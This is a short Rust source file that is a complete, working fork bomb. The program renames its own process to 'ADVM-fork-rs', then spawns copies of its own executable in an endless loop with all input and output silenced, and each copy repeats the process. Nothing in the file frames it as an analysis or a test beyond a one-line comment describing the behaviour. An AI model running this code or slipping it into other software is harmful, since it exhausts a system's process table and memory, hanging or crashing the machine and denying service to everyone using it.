use std::process::{Command, Stdio};

// Every copy starts copies of itself, forever.
fn main() {
    let _ = std::fs::write("/proc/self/comm", "ADVM-fork-rs");
    loop {
        let _ = Command::new("/proc/self/exe")
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn();
    }
}
